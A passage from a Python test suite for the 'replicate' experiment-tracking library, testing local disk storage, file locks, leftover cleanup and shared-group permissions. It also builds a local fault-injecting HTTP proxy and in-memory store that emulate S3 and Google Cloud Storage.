    for attempt, problem in ((lambda: storage.write("a/dir", b"new"), "a/dir"), (lambda: storage.delete(["a/dir"]), "a/dir"),
                             (lambda: storage.write("a/doc/below", b"new"), "a/doc")):
        with pytest.raises(replicate.WriteError, match=problem):
            attempt()
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (5000, limits[1]))  # as if the disk were full
    try:
        for attempt in (lambda: storage.write("a/doc", b"n" * 20000), lambda: storage.write("new/doc", b"n" * 20000),
                        lambda: storage.update("a/doc", lambda old: old * 20000)):
            with pytest.raises(replicate.WriteError, match="could not be written: File too large"):
                attempt()
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert tree(storage.root) == {"a/doc": b"old"}


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs Linux")
def test_a_repository_that_cannot_be_made_is_a_write_error(tmp_path):
    (tmp_path / "file").write_bytes(b"")
    for root in (tmp_path / "file" / "store", Path("/proc/store")):
        with pytest.raises(replicate.WriteError, match="cannot be written"):
            replicate.DiskStorage(str(root)).prepare()
        with pytest.raises(replicate.WriteError):
            replicate.DiskStorage(str(root)).update("x", lambda old: b"new")


def test_a_file_lock_holds_between_processes_and_dies_with_its_holder(tmp_path, training):
    path = str(tmp_path / "x.lock")
    holder = training("""
        lock = replicate.FileLock(os.environ["LOCK"])
        assert lock.acquire()
        wait("held")
        """, env={"LOCK": path})
    holder.expect("held")
    lock = replicate.FileLock(path)
    assert lock.acquire(wait=False) is False
    holder.kill()
    assert lock.acquire(wait=True) is True
    assert replicate.FileLock(path).acquire(wait=False) is False
    lock.release()
    assert not os.path.exists(path)
    with replicate.FileLock(path):
        assert os.path.exists(path)


def remove_leftovers(storage):
    replicate.remove_leftovers(replicate.Repository("file://" + storage.root, storage))


@pytest.mark.parametrize("use", ['create("checkpoints/x", lambda file: (file.write(b"x" * 1000), wait("here")))',
                                 'update("metadata/experiments/x", lambda old: wait("here"))'], ids=["written", "updated"])
def test_what_a_killed_process_left_goes_at_once_and_what_a_live_one_uses_stays(storage, training, use):
    script = training("replicate.DiskStorage(os.environ['ROOT'])." + use, env={"ROOT": storage.root})
    script.expect("here")
    left = list(tree(storage.root))
    assert len(left) == 1 and left[0].startswith("tmp/x.")
    os.utime(storage.path(left[0]), (time.time() - 2 * 86400,) * 2)  # however long it takes
    remove_leftovers(storage)
    assert list(tree(storage.root)) == left
    script.kill()
    remove_leftovers(storage)
    assert tree(storage.root) == {}


def test_only_what_nobody_holds_is_removed_from_tmp(storage, tmp_path, monkeypatch):
    """Older versions did not lock what they were writing, and some file systems have no locks: there, a day decides."""
    names = ["tmp/a", "tmp/b", "tmp/a.part", "tmp/b.part", "tmp/a.lock", "tmp/b.lock"]

    def left():
        for name in names:
            (tmp_path / "store/tmp").mkdir(parents=True, exist_ok=True)
            Path(storage.path(name)).write_bytes(b"x")
            if "/b" in name:
                os.utime(storage.path(name), (time.time() - 2 * 86400,) * 2)
        remove_leftovers(storage)
        return list(tree(storage.root))

    assert left() == ["tmp/a"]
    monkeypatch.setattr(replicate, "lock_descriptor", lambda descriptor, wait: None)
    assert sorted(left()) == ["tmp/a", "tmp/a.lock", "tmp/a.part"]


@pytest.mark.parametrize("settings", [{}, {"disable_heartbeat": True}])
def test_where_files_cannot_be_locked_commands_leave_live_runs_alone(place, call, monkeypatch, settings):
    """As on Lustre without flock, here by a function that says so; the checkpoints of a live run must not get lost."""
    monkeypatch.setattr(replicate, "lock_descriptor", lambda descriptor, wait: None)
    experiment = replicate.init(quiet=True, **settings)
    for step in range(3):
        experiment.checkpoint(step=step, metrics={"loss": step}, quiet=True)
        assert call("ls")[0] == 0
        if place.proxy:
            until(place.documents)
            assert call("push")[0] == 0
    experiment.stop()
    assert [item.step for item in replicate.experiments.get(experiment.id).checkpoints] == [0, 1, 2]


@pytest.mark.parametrize("moment", ["created", "locked", "written", "renamed"])
def test_removing_leftovers_never_takes_a_file_in_use(storage, monkeypatch, moment):
    """Another process removes leftovers just then, or has opened the file before it is renamed, and locks it after that."""
    other, real, seen = replicate.DiskStorage(storage.root), replicate.lock_descriptor, []

    def lock(descriptor, wait):
        seen.append(descriptor)
        if moment == "renamed":
            os.replace(storage.path("tmp/x.0.part"), storage.path("x"))
        locked = real(descriptor, wait) if moment == "locked" else None
        if len(seen) == 1 and moment in ("created", "locked"):
            remove_leftovers(other)
        return locked or real(descriptor, wait)

    if moment == "renamed":
        storage.write("tmp/x.0.part", b"data")
    monkeypatch.setattr(replicate, "lock_descriptor", lock)
    if moment == "renamed":
        remove_leftovers(other)
    else:
        storage.create("x", lambda file: (file.write(b"data"), moment == "written" and remove_leftovers(other)))
    assert seen and tree(storage.root) == {"x": b"data"}


@pytest.mark.parametrize("umask", ["022", "077"])
@pytest.mark.parametrize("root_mode", [0o2775, 0o2770, 0o3777])
def test_users_of_one_group_share_a_repository_whatever_their_umask(shared_project, umask, root_mode):
    repo = shared_project / "repo"
    (shared_project / "train.py").write_text("print(1)")
    repo.mkdir()
    os.chown(str(repo), -1, 3000)
    repo.chmod(root_mode)
    done = run_script(BECOMES_NOBODY.partition("os.setgid")[0] + """
        def as_user(number, work):
            if os.fork():
                assert os.wait()[1] == 0
                return
            os.setgroups([3000])
            os.setgid(number)
            os.setuid(number)
            os.umask(int(sys.argv[1], 8))
            work()
            sys.exit()

        def record():
            with replicate.init(path="train.py", params={"lr": 0.1}, quiet=True) as experiment:
                experiment.checkpoint(path="train.py", metrics={"loss": 1.0}, quiet=True)

        def resume_and_record():
            (first,) = replicate.experiments.list()
            first.checkpoint(path="train.py", metrics={"loss": 0.5}, quiet=True)
            first.stop()
            record()

        def remove():
            first, second = replicate.experiments.list()
            print(len(first.checkpoints), len(second.checkpoints))
            first.delete()
            record()

        for user, work in ((2001, record), (2002, resume_and_record), (2001, remove)):
            as_user(user, work)
        """, umask, cwd=str(shared_project))
    assert done.stdout.split() == ["2", "1"] and done.stderr == ""
    assert len(stored_documents(repo)) == 2
    for folder, folders, files in os.walk(str(repo)):
        for name in folders + files:
            status = os.stat(os.path.join(folder, name))
            wanted = 0o2000 | root_mode & 0o777 if name in folders else root_mode & 0o666
            assert (status.st_gid, oct(status.st_mode & 0o7777)) == (3000, oct(wanted)), name


@pytest.mark.parametrize("mode", [0o770, 0o700, 0o755])
@pytest.mark.parametrize("umask", [0o077, 0])
def test_journals_locks_and_what_is_being_written_have_the_permissions_of_the_repository(tmp_path, mode, umask):
    root, seen = tmp_path / "store", []
    root.mkdir()
    root.chmod(mode)
    storage, before = replicate.DiskStorage(str(root)), os.umask(umask)
    try:
        journal = replicate.Journal(storage, A)
        storage.update("x", lambda old: storage.create("y", lambda file: seen.extend(root.rglob("*")) or seen.extend(
            oct(path.stat().st_mode & 0o777) for path in root.rglob("*"))))
        journal.release()
    finally:
        os.umask(before)
    assert len(seen) == 10  # two folders, a journal, a lock and a temporary file
    assert sorted(seen[5:]) == [oct(mode & 0o666)] * 3 + [oct(mode)] * 2


@pytest.mark.parametrize("umask", [0o022, 0o000])
def test_what_waits_to_be_uploaded_is_private(s3_bucket, project, umask):
    before = os.umask(umask)
    try:
        s3_bucket.create()
        experiment = replicate.init(quiet=True)
        root = pending_root(project)
        assert root.stat().st_mode & 0o777 == 0o700
        assert {path.stat().st_mode & 0o077 for path in root.rglob("*")} == {0}
        experiment.stop()
    finally:
        os.umask(before)


# ------------------------------------------------------------------------------------------------------------------
# 5b  Cloud storage, sending
# ------------------------------------------------------------------------------------------------------------------

def use_cloud(monkeypatch, **variables):
    """Have credentials for every store, and these variables too."""
    for variable, value in dict(variables, AWS_ACCESS_KEY_ID="test", AWS_SECRET_ACCESS_KEY="test", GOOGLE_CLOUD_PROJECT="test",
                                AWS_DEFAULT_REGION="us-east-1", AWS_EC2_METADATA_DISABLED="true").items():
        monkeypatch.setenv(variable, value)


class WireRequest:
    """One HTTP request as the proxy saw it: what kind of operation, of which key."""

    def __init__(self, method, target, headers, body):
        self.method, self.target, self.headers, self.body = method, target, headers, body
        parts = urllib.parse.urlsplit(target)
        self.path = urllib.parse.unquote(parts.path)
        self.query = dict(urllib.parse.parse_qsl(parts.query, keep_blank_values=True))
        self.range = headers.get("Range")
        self.served = 0  # bytes of the answer
        self.is_gcs = bool(re.match(r"/(upload/|download/)?storage/v1/|/resumable/", self.path))
        self.bucket, self.key, self.kind = self._gcs() if self.is_gcs else self._s3()

    def _s3(self):
        bucket, _, key = self.path.lstrip("/").partition("/")
        if not key:
            kinds = {"GET": "LIST", "HEAD": "BUCKET", "PUT": "CREATE", "POST": "DELETE"}
        elif "uploadId" in self.query:
            kinds = {"PUT": "PART", "POST": "COMPLETE", "DELETE": "ABORT"}
        else:
            kinds = {"POST": "START"}
        return bucket, key, kinds.get(self.method, self.method)

    def _gcs(self):
        found = re.match(r"/(?:upload/|download/)?storage/v1/b(?:/([^/]+))?(?:/o)?(?:/(.+))?$", self.path)
        bucket, key = found.groups("") if found else ("", "")
        if "upload_id" in self.query:
            return bucket, self.query.get("name", ""), "PART"
        if "uploadType" in self.query:
            named = re.search(rb'"name": ?"([^"]*)"', self.body[:4096])
            key = self.query.get("name") or (named.group(1).decode() if named else "")
            return bucket, key, "START" if self.query["uploadType"] == "resumable" else "PUT"
        if not key:
            return bucket, "", "LIST" if self.path.endswith("/o") else "CREATE" if self.method == "POST" else "BUCKET"
        is_metadata = self.method == "GET" and self.query.get("alt") != "media"
        return bucket, key, "HEAD" if is_metadata else self.method

    def __repr__(self):
        return "%s %s %s" % (self.kind, self.key or self.bucket, self.range or "")


class WireCut(Exception):
    """The proxy drops the connection."""


class WireProxy:
    """An HTTP proxy before a storage server: it counts, enforces GCS's preconditions and pages, and breaks things.

    rule(request) answers None (pass it on), (status, headers, body), "reset", "lost" (done, but the answer is not sent),
    "stall" (until release()), or a number: reset after so many bytes of the answer's body.
    after(request, status, headers, body) is called before an answer is sent.
    """

    def __init__(self, upstream=None, is_gcs=False):
        self.upstream, self.is_gcs = upstream, is_gcs
        self.requests = []
        self.rule = lambda request: None
        self.after = lambda request, status, headers, body: None
        self.shift = 0.0      # seconds that the store's clock is ahead
        self.sink = False     # whether large bodies are read and thrown away, as if they were stored
        self.port = 0
        self._lock = threading.RLock()
        self._sockets = set()
        self._released = threading.Event()
        self.server, self._placeholder = None, socket.socket()
        self.up()

    @property
    def address(self):
        return "http://127.0.0.1:%d" % self.port

    def up(self):
        proxy = self

        class Server(http.server.ThreadingHTTPServer):
            request_queue_size = 128

            def handle_error(self, *arguments):
                pass

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True

            def setup(self):
                super().setup()
                proxy._sockets.add(self.connection)

            def log_message(self, *arguments):
                pass

            def do_any(self):
                proxy.handle(self)

            do_GET = do_PUT = do_POST = do_DELETE = do_HEAD = do_PATCH = do_any

        self._placeholder.close()
        self.server = Server(("127.0.0.1", self.port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()

    def down(self):
        """Take it away: nothing listens any more, open connections are reset.

        The port stays taken, so that no other test's server gets it, and with it what a script uploads.
        """
        if self.server:
            self.server.shutdown()
            self.server.server_close()
            self.server = None
            self._placeholder = socket.socket()
            self._placeholder.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            self._placeholder.bind(("127.0.0.1", self.port))
        for connection in list(self._sockets):
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)

    def release(self):
        """Let stalled requests go, into a reset."""
        self._released.set()

    def close(self):
        self.release()
        self.down()
        self._placeholder.close()

    # -- what tests ask

    def clear(self):
        del self.requests[:]

    def count(self, kind=None, prefix=""):
        """How many requests; of all kinds, without the SDK's own look at the bucket."""
        return len([request for request in self.seen(kind, prefix) if kind or request.kind != "BUCKET"])

    def seen(self, kind=None, prefix=""):
        return [request for request in list(self.requests) if kind in (None, request.kind) and prefix in request.key]

    # -- work

    def handle(self, handler):
        length = int(handler.headers.get("Content-Length") or 0)
        body = handler.rfile.read(length)
        target = "/storage/v1" + handler.path if handler.path.startswith("/b/") else handler.path  # the peer leaves it out
        request = WireRequest(handler.command, target, handler.headers, body)
        with self._lock:
            self.requests.append(request)
            action = self.rule(request)
        try:
            if action == "stall":
                self._released.wait(120)
            if action in ("stall", "reset"):
                raise WireCut
            if isinstance(action, tuple):
                status, headers, body = action
            else:
                status, headers, body = self.answer(request)
            self.after(request, status, headers, body)
            if action == "lost":
                raise WireCut
            self._send(handler, request, status, headers, body, action if isinstance(action, int) else None)
            request.body = request.body[:1 << 16]  # of the rest nobody asks
        except WireCut:
            self._reset(handler)

    def _reset(self, handler):
        """Reset the connection once all that was sent has arrived: a reset throws the rest away."""
        import fcntl
        import termios
        handler.close_connection = True
        with contextlib.suppress(OSError):
            until(lambda: not any(fcntl.ioctl(handler.connection, termios.TIOCOUTQ, bytes(4))), 10)
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        os.close(handler.connection.detach())

    def _send(self, handler, request, status, headers, body, cut):
        handler.send_response_only(status)
        for name, value in headers.items():
            if name.lower() not in ("date", "connection", "transfer-encoding", "content-length", "last-modified"):
                handler.send_header(name, value)
        handler.send_header("Date", self._date(time.time()))
        if "last-modified" in headers:
            modified = email.utils.parsedate_to_datetime(headers["last-modified"])
            handler.send_header("Last-Modified", self._date(modified.timestamp()))
        if status != 204:
            length = headers.get("content-length", "0") if request.method == "HEAD" else len(body)
            handler.send_header("Content-Length", str(length))
        handler.end_headers()
        if request.method != "HEAD":
            part = body[:cut]
            handler.wfile.write(part)
            request.served = len(part)
            if len(part) < len(body):
                raise WireCut

    def _date(self, moment):
        return email.utils.formatdate(moment + self.shift, usegmt=True)

    def answer(self, request):
        """(status, headers with names in lower case, body) from the store; times in listings are of the shifted clock."""
        if self.sink and (int(request.headers.get("Content-Length") or 0) > 1 << 20 or request.kind == "COMPLETE"):
            return self._swallowed(request)
        is_atomic = request.is_gcs or request.kind == "PUT"  # nothing comes between the test of a precondition and the change
        with self._lock if is_atomic else contextlib.nullcontext():
            status, headers, body = (self._enforce if request.is_gcs else self._enforce_s3)(request)
        if self.shift:
            body = re.sub(rb'(<LastModified>|"updated": ?")([0-9T:-]+)[0-9.]*Z', self._later, body)
        return status, headers, body

    def _later(self, match):
        moment = datetime.datetime.fromisoformat(match.group(2).decode()) + datetime.timedelta(seconds=self.shift)
        return match.group(1) + moment.isoformat().encode() + b".000Z"

    @staticmethod
    def _swallowed(request):
        if request.kind == "COMPLETE":
            return 200, {}, b"<CompleteMultipartUploadResult><ETag>x</ETag></CompleteMultipartUploadResult>"
        found = re.match(r"bytes \d+-(\d+)/(\d+|\*)", request.headers.get("Content-Range") or "")
        if found and int(found.group(1)) + 1 != int(found.group(2)):
            return 308, {"Range": "bytes=0-" + found.group(1)}, b""
        return 200, {"ETag": '"%032x"' % 1}, b'{"name": "x", "generation": "1"}' if request.is_gcs else b""

    def forward(self, request, target=None):
        connection = http.client.HTTPConnection("127.0.0.1", self.upstream, timeout=60)
        headers = {name: value for name, value in request.headers.items()
                   if name.lower() not in ("connection", "expect", "transfer-encoding", "content-length")}
        headers.update({"Connection": "close"})
        try:
            connection.request(request.method, target or request.target, request.body or None, headers)
            answer = connection.getresponse()
            body = answer.read()
        except (OSError, http.client.HTTPException):
            raise WireCut
        finally:
            connection.close()
        headers = {name.lower(): value for name, value in answer.getheaders()}
        if "location" in headers:
            headers["location"] = re.sub(r"^http://[^/]+", self.address, headers["location"])
        return answer.status, headers, body

    def _enforce_s3(self, request):
        """Conditional PUTs: an older moto has none, and a newer one lets two at once through."""
        wanted, absent = request.headers.get("If-Match"), request.headers.get("If-None-Match")
        if request.kind == "PUT" and (wanted or absent):
            status, headers, _ = self.forward(WireRequest("HEAD", request.target, {
                "Authorization": request.headers.get("Authorization", "")}, b""))
            if wanted and (status != 200 or headers["etag"].strip('"') != wanted.strip('"')) or absent and status == 200:
                return self.precondition_failed()
        return self.forward(request)

    def _enforce(self, request):
        """What the emulator leaves out: generation preconditions and pages."""
        wanted = request.query.get("ifGenerationMatch")
        if wanted is not None and request.kind in ("GET", "HEAD", "PUT", "START", "DELETE"):
            probe = WireRequest("GET", "/storage/v1/b/%s/o/%s" % (request.bucket, urllib.parse.quote(request.key, "")), {}, b"")
            status, _, body = self.forward(probe)
            current = json.loads(body)["generation"] if status == 200 else "0"
            if current != wanted and not (current == "0" and request.kind in ("GET", "HEAD")):
                return self.precondition_failed()
        if request.kind != "LIST":
            return self.forward(request)
        query = {name: value for name, value in request.query.items() if name == "prefix"}
        status, headers, body = self.forward(request, request.path + "?" + urllib.parse.urlencode(query))
        if status != 200:
            return status, headers, body
        items = sorted(json.loads(body).get("items") or [], key=lambda item: item["name"])
        items = [item for item in items if item["name"] > request.query.get("pageToken", "")]
        limit = min(1000, int(request.query.get("maxResults") or 1000))
        page = {"kind": "storage#objects", "items": items[:limit]}
        if len(items) > limit:
            page["nextPageToken"] = items[limit - 1]["name"]
        return 200, {"Content-Type": "application/json"}, json.dumps(page).encode()

    def precondition_failed(self):
        return self.refusal(412, "PreconditionFailed", "At least one of the pre-conditions did not hold.")

    def refusal(self, status=403, code="AccessDenied", message="You may not do that"):
        """The answer of a store that refuses, in the words of its protocol."""
        if self.is_gcs:
            return status, {"Content-Type": "application/json"}, json.dumps(
                {"error": {"code": status, "message": message, "errors": [{"message": message}]}}).encode()
        return status, {"Content-Type": "application/xml"}, (
            "<Error><Code>%s</Code><Message>%s</Message></Error>" % (code, message)).encode()


class Shelf(WireProxy):
    """A store in memory that speaks enough of S3 to hold thousands of documents at no cost."""

    def __init__(self):
        self.objects = {}
        super().__init__()

    def put(self, key, data, age=60.0):
        self.objects[key] = (data, hashlib.md5(data).hexdigest(), time.time() - age)

    def forward(self, request, target=None):
        with self._lock:
            if request.kind == "LIST":
                return 200, {"Content-Type": "application/xml"}, self._list(request.query)
            if request.kind == "DELETE":
                request.deleted = re.findall(r"<Key>([^<]*)</Key>", request.body.decode()) or [request.key]
                for key in request.deleted:
                    self.objects.pop(key, None)
                return 200, {}, b"<DeleteResult></DeleteResult>"
            if request.kind == "PUT":
                self.put(request.key, request.body, 0)
                return 200, {"etag": '"%s"' % self.objects[request.key][1]}, b""
            if request.kind not in ("GET", "HEAD"):
                return 200, {}, b""
            if request.key not in self.objects:
                return self.refusal(404, "NoSuchKey", "The specified key does not exist.")
            data, tag, modified = self.objects[request.key]
            headers = {"etag": '"%s"' % tag, "last-modified": email.utils.formatdate(modified, usegmt=True),
                       "content-length": str(len(data))}
            if (request.headers.get("If-Match") or tag).strip('"') != tag:
                return self.precondition_failed()
            if request.range:
                first, last = re.fullmatch(r"bytes=(\d+)-(\d*)", request.range).groups()
                part = data[int(first):int(last) + 1 if last else None]
                headers["Content-Range"] = "bytes %s-%d/%d" % (first, int(first) + len(part) - 1, len(data))
                return 206, headers, part
            return 200, headers, data

    def _list(self, query):
        after = query.get("continuation-token", "")
        names = sorted(name for name in self.objects if name.startswith(query.get("prefix", "")) and name > after)
        limit = int(query.get("max-keys") or 1000)
        rows = []
        for name in names[:limit]:
            data, tag, modified = self.objects[name]
            moment = datetime.datetime.fromtimestamp(modified, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000Z")
            rows.append("<Contents><Key>%s</Key><LastModified>%s</LastModified><ETag>&quot;%s&quot;</ETag><Size>%d</Size></Contents>" % (
                xml.sax.saxutils.escape(name), moment, tag, len(data)))
        if len(names) > limit:
            rows.append("<IsTruncated>true</IsTruncated><NextContinuationToken>%s</NextContinuationToken>" % (
                xml.sax.saxutils.escape(names[limit - 1])))
        return ("<ListBucketResult><Name>b</Name>%s</ListBucketResult>" % "".join(rows)).encode()


NO_BUCKETS = os.environ.get("REPLICATE_TEST_BUCKETS") == "0"  # before the fixture `sealed` hides it


def served(sdk, *arguments):
    """The port of a store's server, a process of its own, for as long as the session lasts."""
    if NO_BUCKETS:
        pytest.skip("REPLICATE_TEST_BUCKETS=0: buckets are tested on another Python")
    for module in (sdk, arguments[0].partition(".")[0]):
        pytest.importorskip(module)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = subprocess.Popen([sys.executable, "-m", *[word.replace("PORT", str(port)) for word in arguments]],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)

    def listens():
        assert process.poll() is None, "The server %s does not start" % arguments[0]
        with socket.socket() as probe:
            return probe.connect_ex(("127.0.0.1", port)) == 0

    try:
        until(listens)
        yield port
    finally:
        process.kill()
        process.wait()


@pytest.fixture(scope="session")
def s3_server():
    """(the port of a server, a client that goes to it directly, past any proxy)."""
    for port in served("boto3", "moto.server", "-H", "127.0.0.1", "-p", "PORT"):
        import boto3
        yield port, boto3.session.Session("test", "test", region_name="us-east-1").client(
            "s3", endpoint_url="http://127.0.0.1:%d" % port)


@pytest.fixture(scope="session")
def gs_server():
    for port in served("google.cloud.storage", "gcp_storage_emulator", "start", "--host=127.0.0.1", "--port=PORT",
                       "--in-memory"):
        from google.auth.credentials import AnonymousCredentials
        from google.cloud.storage import Client
        yield port, Client("test", AnonymousCredentials(), client_options={"api_endpoint": "http://127.0.0.1:%d" % port})


def document_key(item_id):
    return "metadata/experiments/%s.json" % item_id


def put_documents(place, *documents):
    for document in documents:
        place.put(document_key(document["id"]), json.dumps(document).encode())


class Place:
    """A repository somewhere, looked at without the program under test."""

    proxy = None

    def __init__(self, root, url=None):
        self.root, self.url = root, url

    def document(self, item_id):
        return json.loads(self.get(document_key(item_id)).decode())

    def documents(self):
        return [json.loads(self.get(key).decode()) for key in self.keys() if key.startswith("metadata/experiments/")]

    def checkpoints(self):
        """{checkpoint ID: step} of all documents; each may be there once."""
        found = [(item["id"], item["step"]) for document in self.documents() for item in document["checkpoints"] or ()]
        assert len(dict(found)) == len(found), "a checkpoint is there twice"
        return dict(found)

    def steps(self):
        """The steps of all checkpoints; each that save() has made has its own file."""
        for document in self.documents():
            for item in document["checkpoints"]:
                if (item["path"] or "").endswith(".bin"):
                    assert self.files("checkpoints", item["id"])[item["path"]].startswith(b"step %d" % item["step"])
        return sorted(self.checkpoints().values())

    def files(self, kind, item_id):
        """{name: content} of an archive."""
        data = gzip.decompress(self.get("%s/%s.tar.gz" % (kind, item_id)))
        with tarfile.open(fileobj=io.BytesIO(data)) as archive:
            return {member.name.partition("/")[2]: archive.extractfile(member).read()
                    for member in archive.getmembers() if member.isfile()}


class DiskPlace(Place):
    def keys(self):
        return sorted(tree(self.root))

    def get(self, key):
        return (self.root / key).read_bytes()

    def put(self, key, data):
        fill(self.root, {key: data})

    def remove(self, key):
        (self.root / key).unlink()

    def create(self):
        self.root.mkdir(exist_ok=True)


class S3Place(Place):
    def __init__(self, url, bucket, root, client, proxy):
        super().__init__(root, url)
        self.bucket, self.client, self.proxy = bucket, client, proxy

    def create(self):
        self.client.create_bucket(Bucket=self.bucket)

    def exists(self):
        return self.bucket in [item["Name"] for item in self.client.list_buckets()["Buckets"]]

    def keys(self):
        if not self.exists():
            return []
        pages = self.client.get_paginator("list_objects_v2").paginate(Bucket=self.bucket, Prefix=self.root)
        return sorted(item["Key"][len(self.root):] for page in pages for item in page.get("Contents", ()))

    def get(self, key):
        return self.client.get_object(Bucket=self.bucket, Key=self.root + key)["Body"].read()

    def put(self, key, data):
        self.client.put_object(Bucket=self.bucket, Key=self.root + key, Body=data)

    def remove(self, key):
        self.client.delete_object(Bucket=self.bucket, Key=self.root + key)


class GSPlace(S3Place):
    def _blob(self, key):
        return self.client.bucket(self.bucket).blob(self.root + key)

    def create(self):
        self.client.create_bucket(self.bucket)

    def exists(self):
        return self.client.bucket(self.bucket).exists()

    def keys(self):
        return sorted(blob.name[len(self.root):] for blob in self.client.list_blobs(self.bucket, prefix=self.root)
                      ) if self.exists() else []

    def get(self, key):
        return self._blob(key).download_as_bytes()

    def put(self, key, data):
        self._blob(key).upload_from_string(data, "application/octet-stream")

    def remove(self, key):
        self._blob(key).delete()


@pytest.fixture
def new_place(request, tmp_path, monkeypatch):
    """new_place("s3") makes a place with a bucket of its own (not created yet) behind a proxy of its own."""
    places = []

    def make(kind):
        name = "t%s-bucket" % uuid.uuid4().hex[:20]
        if kind == "file":
            return DiskPlace(tmp_path / name, "file://%s" % (tmp_path / name))
        scheme, slash, root = kind.partition("/")
        port, client = request.getfixturevalue(scheme + "_server")
        proxy = WireProxy(port, scheme == "gs")
        use_cloud(monkeypatch, **{"AWS_ENDPOINT_URL" if scheme == "s3" else "STORAGE_EMULATOR_HOST": proxy.address})
        places.append((S3Place if scheme == "s3" else GSPlace)(
            "%s://%s%s%s" % (scheme, name, slash, root), name, root and root + "/", client, proxy))
        return places[-1]

    yield make
    replicate.stop_all()
    for place in places:
        place.proxy.close()


def used_by(project, place):
    (project / "replicate.yaml").write_text("repository: %s\n" % place.url)
    return place


@pytest.fixture(params=["file", "s3/deep/root", "gs"])
def place(request, new_place, project):
    """A repository on disk and on each kind of bucket; the project uses it."""
    return used_by(project, new_place(request.param))


@pytest.fixture(params=["s3", "gs"])
def bucket(request, new_place, project):
    return used_by(project, new_place(request.param))


@pytest.fixture
def s3_bucket(new_place, project):
    return used_by(project, new_place("s3"))


@pytest.fixture
def hasty(monkeypatch):
    """Short pauses between tries, in this process."""
    monkeypatch.setattr(replicate.CloudStorage, "FIRST_PAUSE", 0.005)
    monkeypatch.setattr(replicate.CloudStorage, "LONGEST_PAUSE", 0.02)
    with contextlib.suppress(ImportError):
        import botocore.retryhandler
        monkeypatch.setattr(botocore.retryhandler, "delay_exponential", lambda **settings: 0.01)
    monkeypatch.setattr(replicate, "FIRST_SEND_PAUSE", 0.05)
    monkeypatch.setattr(replicate, "LONGEST_SEND_PAUSE", 0.2)


HASTY = """
import json, os, resource, signal, sys, threading, time, replicate
replicate.CloudStorage.FIRST_PAUSE, replicate.CloudStorage.LONGEST_PAUSE = 0.005, 0.02
if "AWS_ENDPOINT_URL" in os.environ:
    import botocore.retryhandler
    botocore.retryhandler.delay_exponential = lambda **settings: 0.01
replicate.FIRST_SEND_PAUSE, replicate.LONGEST_SEND_PAUSE = 0.05, 0.2
def wait(word):
    print(word, flush=True)
    return sys.stdin.readline().strip()
def save(step, path="model.bin", **more):
    with open(path, "wb") as file:
        file.write(b"step %d" % step + os.urandom(1000))
    return experiment.checkpoint(path=path, step=step, metrics={"loss": 1.0 / (step + 1)}, quiet=True, **more)
"""
TRAINING = HASTY + "experiment = replicate.init(quiet=True)\n"


def save(experiment, step):
    """The same in this process."""
    Path("model.bin").write_bytes(b"step %d" % step)
    return experiment.checkpoint(path="model.bin", step=step, quiet=True)


class Training:
    """A training script that runs beside the test, and stops where it calls wait(word)."""

    def __init__(self, source, *arguments, prefix=HASTY, cwd=None, env=None, python=sys.executable):
        environment = {**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})}
        self.process = subprocess.Popen([python, "-c", prefix + textwrap.dedent(source), *map(str, arguments)], cwd=cwd, text=True,
                                        env=environment, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.lines, self.errors = queue.Queue(), []
        self._readers = [threading.Thread(target=self._read, args=(self.process.stdout, self.lines.put), daemon=True),
                         threading.Thread(target=self._read, args=(self.process.stderr, self.errors.append), daemon=True)]
        for reader in self._readers:
            reader.start()

    @staticmethod
    def _read(stream, keep):
        for line in stream:
            keep(line.rstrip("\n"))

    @property
    def stderr(self):
        return "\n".join(self.errors)

    @property
    def rest(self):
        """The lines of its output that were not expected yet."""
        return list(self.lines.queue)

    def expect(self, word):
        """Wait for a line that starts with a word; returns what follows it."""
        try:
            line = self.lines.get(timeout=60)
        except queue.Empty:
            pytest.fail("the script does not come to %r: %s" % (word, self.stderr))
        assert line.startswith(word), (line, self.stderr)
        return line[len(word):].strip()

    def go(self, text=""):
        self.process.stdin.write("%s\n" % text)
        self.process.stdin.flush()
        return self

    def terminate(self, code=-signal.SIGTERM):
        """Its messages once it has ended by SIGTERM, which it gets when it is ready."""
        self.expect("ready")
        self.process.terminate()
        return self.end(code=code)

    def end(self, timeout=90, code=0):
        """Its messages once it has ended; it gets no more lines to read."""
        with contextlib.suppress(OSError):
            self.process.stdin.close()
        try:
            self.process.wait(timeout)
        except subprocess.TimeoutExpired:
            pytest.fail("the script hangs: %s" % self.stderr)
        finally:
            self.kill()
        assert code is None or self.process.returncode == code, self.stderr
        return self.stderr

    def kill(self):
        self.process.kill()
        self.process.wait()
        for reader in self._readers:
            reader.join(10)


@pytest.fixture
def training():
    """training(source, argument...) starts a script; it is killed at the end of the test."""
    started = []

    def start(*arguments, **settings):
        started.append(Training(*arguments, **settings))
        return started[-1]

    yield start
    for script in started:
        script.kill()


def until(condition, seconds=60):
    """Poll until condition() is true; returns its value."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        value = condition()
        if value:
            return value
        time.sleep(0.02)
    pytest.fail("waited %d seconds in vain" % seconds)


def pending_root(project):
    (found,) = (project / ".replicate/pending").iterdir()
    return found


def pending_documents(project):
    if not (project / ".replicate/pending").exists():
        return []
    return stored_documents(pending_root(project))


def pending_leftovers(project):
    """The files of the pending area but for its repository.json."""
    root = pending_root(project)
    names = [os.path.relpath(os.path.join(folder, name), root) for folder, _, names in os.walk(root) for name in names]
    return sorted(set(names) - {"repository.json"})  # the contents are not read: the sender may remove them meanwhile


def one_message(text):
    """The one message that an error is."""
    lines = [line for line in text.splitlines() if line and "FutureWarning" not in line and "warnings.warn" not in line]
